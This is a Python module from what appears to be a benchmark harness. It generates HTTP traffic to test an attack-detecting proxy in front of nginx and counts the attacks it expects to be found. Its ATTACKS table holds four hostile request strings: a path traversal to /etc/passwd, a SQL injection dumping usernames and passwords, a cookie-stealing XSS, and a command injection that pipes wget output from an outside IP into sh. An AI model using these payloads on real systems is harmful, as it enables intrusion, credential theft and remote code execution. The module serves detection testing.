"""The kinds of traffic that the bench makes: which requests, over which connections, and what has to be found in them.

Every kind is a function of the exchange's number alone, so two captures of one size hold the same requests.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Final

from bench.client import Request

ATTACK_EVERY: Final = 1000
POST_EVERY: Final = 10
PAGES: Final = 40  # files of 20 to 100 KB that nginx serves for the kind `c`
DOCUMENTS: Final = 64  # bodies of 1 to 20 KB that the kind `d` posts

HEADERS: Final = (
    b"Host: shop.example\r\n"
    b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
    b"Accept: application/json\r\n"
    b"Accept-Language: en-GB,en;q=0.7\r\n"
    b"Cookie: session=6f1d2b7c9a0e4f3d8b5a1c2e7d9f0a3b\r\n"
)
TRAVERSAL: Final = b"/api/files?name=../../../../etc/passwd"
# One target of each type: every one is found by what it is, whatever the rules are called.
ATTACKS: Final = {
    "ptrav": TRAVERSAL,
    "sqli": b"/api/v1/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "xss": b"/api/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "rce": b"/api/v1/ping?host=127.0.0.1;wget%20-qO-%20http://203.0.113.9/x%7Csh",
}


@dataclass(frozen=True, slots=True)
class Kind:
    """One kind of traffic: what it is called and says, how many exchanges at SCALE=1, and how they are asked for."""

    name: str
    title: str
    exchanges: int
    request: Callable[[int], Request]
    connection_requests: int = 1000  # what nginx allows a connection by default
    findings: Callable[[int], dict[str, int]] = field(default=lambda exchanges: {})

    def batches(self, exchanges: int) -> Iterator[Iterator[Request]]:
        """Yield the requests of each connection, made when they are sent."""
        for start in range(0, exchanges, self.connection_requests):
            yield map(self.request, range(start, min(start + self.connection_requests, exchanges)))


def get(target: bytes, *headers: bytes) -> Request:
    """Return a GET of *target*, answered by 200."""
    return Request(b"GET " + target + b" HTTP/1.1\r\n" + HEADERS + b"".join(headers) + b"\r\n", 200)


def post(target: bytes, body: bytes) -> Request:
    """Return a POST of JSON, answered by 200."""
    head = b"POST " + target + b" HTTP/1.1\r\n" + HEADERS
    return Request(head + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body, 200)


def item(number: int) -> Request:
    """Return a small request as an API gets them: nine in ten a GET, one a POST of a JSON order."""
    if number % POST_EVERY == POST_EVERY - 1:
        body = b'{"item":%d,"quantity":%d,"note":"leave it at the door","gift":false}' % (number, number % 7 + 1)
        return post(b"/api/v1/orders", body)
    return get(b"/api/v1/items/%d?fields=name,price&page=%d" % (number % 5000, number % 40))


def small(number: int) -> Request:
    """Return `item`, or the attack that shows in the result that detection was on."""
    return get(TRAVERSAL) if number % ATTACK_EVERY == ATTACK_EVERY - 1 else item(number)


def alone(number: int) -> Request:
    """Return `small` as the only request of its connection."""
    request = small(number)
    return Request(request.data.replace(b"Host:", b"Connection: close\r\nHost:", 1), request.status)


def page(number: int) -> Request:
    """Return a GET of a larger file: one in three as it is, the others gzip in chunks."""
    if number % 3 == 0:
        return get(b"/pages/%d.json" % (number % PAGES))
    return get(b"/zipped/pages/%d.json" % (number % PAGES), b"Accept-Encoding: gzip, deflate\r\n")


def upload(number: int) -> Request:
    """Return a POST of a document that nginx hands to a server behind it, so that the answer follows the whole body."""
    return post(b"/store/documents?revision=%d" % (number % 500), _DOCUMENTS[number % DOCUMENTS])


def mixed(number: int) -> Request:
    """Return `item`, or in one of a hundred an attack; the types take turns."""
    if number % 100 != 99:
        return item(number)
    return get(list(ATTACKS.values())[number // 100 % len(ATTACKS)])


def dear(number: int) -> Request:
    """Return a request made to cost its reader much and to hold no attack; eight sorts take turns."""
    return _DEAR[number % len(_DEAR)]


def _dear_requests() -> list[Request]:
    source = random.Random(9)
    nested = b'{"a":' * 60 + b"1" + b"}" * 60
    keys = b"{" + b",".join(b'"k%d":%d' % (key, key) for key in range(3000)) + b"}"
    almost = b" and ".join(b"select one or the other from the union where it's 'quoted' -- %d" % each for each in range(300))
    packed = b"A harmless sentence that was packed again and again."
    for _ in range(6):
        packed = base64.b64encode(packed)
    letters = b"".join(b"%%%02x" % byte for byte in source.randbytes(2000))
    chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in b'{"note":"' + b"one byte a chunk " * 200 + b'"}') + b"0\r\n\r\n"
    chunked = b"POST /store/documents HTTP/1.1\r\n" + HEADERS + b"Content-Type: application/json\r\n"
    return [
        get(b"/api/v1/items/1", *(b"X-Header-%d: %s\r\n" % (each, b"value " * 20) for each in range(90))),
        post(b"/store/documents", nested),
        post(b"/store/documents", keys),
        post(b"/store/documents", b'{"text":"' + almost + b'"}'),
        get(b"/api/v1/items/1?token=" + packed),
        get(b"/api/v1/items/1?blob=" + letters),
        Request(chunked + b"Transfer-Encoding: chunked\r\n\r\n" + chunks, 200),
        Request(item(9).data, 200, piece=1),
    ]


def found_in_small(exchanges: int) -> dict[str, int]:
    return {"ptrav": exchanges // ATTACK_EVERY} if exchanges >= ATTACK_EVERY else {}


def found_in_mixed(exchanges: int) -> dict[str, int]:
    """Return the attacks of each type among so many exchanges."""
    attacks = exchanges // 100
    counts = {name: (attacks + len(ATTACKS) - 1 - place) // len(ATTACKS) for place, name in enumerate(ATTACKS)}
    return {name: count for name, count in counts.items() if count}


def records(source: random.Random, size: int) -> bytes:
    """Return a JSON document of about *size* bytes with the keys and values of a shop's catalogue."""
    rows: list[dict[str, object]] = []
    length = 0
    while length < size:
        row = {
            "id": source.randrange(1, 10**7),
            "sku": f"{source.choice('ABCDEFGH')}{source.randrange(10**5):05d}-{source.randrange(100):02d}",
            "title": " ".join(source.choices(_WORDS, k=source.randrange(3, 8))).capitalize(),
            "description": " ".join(source.choices(_WORDS, k=source.randrange(8, 30))) + ".",
            "price": f"{source.randrange(1, 900)}.{source.randrange(100):02d}",
            "stock": source.randrange(200),
            "tags": source.choices(_WORDS, k=3),
            "updated": f"2026-{source.randrange(1, 13):02d}-{source.randrange(1, 29):02d}T{source.randrange(24):02d}:15:00Z",
        }
        rows.append(row)
        length += len(json.dumps(row)) + 2
    return json.dumps({"items": rows, "total": len(rows)}).encode()


def pages() -> dict[str, bytes]:
    """Return name -> contents of the files that `page` asks for: 20 to 100 KB, evenly spread."""
    source = random.Random(20)
    return {f"pages/{number}.json": records(source, 20_000 + 80_000 * number // (PAGES - 1)) for number in range(PAGES)}


CATALOGUE: Final = """
anvil apron basket beam bench blanket bolt bottle bracket brass broom brush bucket cabinet candle canvas carpet chain
chair chisel clamp clock cloth copper cotton crate cup curtain desk door drawer drill fabric fence file frame garden
glass glove glue hammer handle hinge hook hose iron jar kettle key knife ladder lamp leather linen lock mirror mug
nail needle oak oil paint paper pillow pine pipe plank plate pliers pocket polish pot rack rail rope round ruler sand
saw scale screw sheet shelf silver soap sofa spoon spring square steel stone stool strap string table tape thread tile
timber tool towel tray varnish vase wallpaper warm washer wax wheel window wire wood wool wrench yarn
"""
_WORDS: Final = CATALOGUE.split()
_DEAR: Final = _dear_requests()
_DOCUMENTS: Final = [records(random.Random(at), 1_000 + 19_000 * at**2 // (DOCUMENTS - 1) ** 2) for at in range(DOCUMENTS)]

KINDS: Final = {
    kind.name: kind
    for kind in (
        Kind("a", "small JSON exchanges on keep-alive connections", 40_000, small, findings=found_in_small),
        Kind("b", "one exchange a connection", 10_000, alone, connection_requests=1, findings=found_in_small),
        Kind("c", "responses of 20 to 100 KB, two in three gzip in chunks", 1_600, page, connection_requests=100),
        Kind("d", "POSTs of 1 to 20 KB of JSON", 6_000, upload, connection_requests=100),
        Kind("g", "as a, one exchange in a hundred an attack", 40_000, mixed, findings=found_in_mixed),
        Kind("i", "inputs made to be dear", 1_600, dear, connection_requests=100),
    )
}
